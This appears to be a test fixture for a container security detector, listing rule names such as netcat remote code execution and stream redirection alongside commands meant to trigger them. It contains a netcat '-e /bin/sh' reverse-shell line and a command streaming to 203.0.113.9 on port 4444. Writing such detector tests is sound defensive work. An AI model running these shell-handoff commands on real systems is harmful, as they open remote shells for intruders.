# place container
# eyas 1 Shell in a container with a terminal
# eyas 3 Standard streams redirected to a network connection
# upstream 1 Terminal shell in container
# upstream 1 Packet socket created in container
# upstream 3 Redirect STDOUT/STDIN to Network Connection in Container
# upstream 1 Netcat Remote Code Execution in Container
/usr/bin/runc terminal /bin/sh -c "/usr/bin/id; /bin/true"
/bin/nc 127.0.0.1 9 -e /bin/sh
/bin/act packet
/bin/act listening 4444 /bin/act streams 203.0.113.9 4444 /bin/true
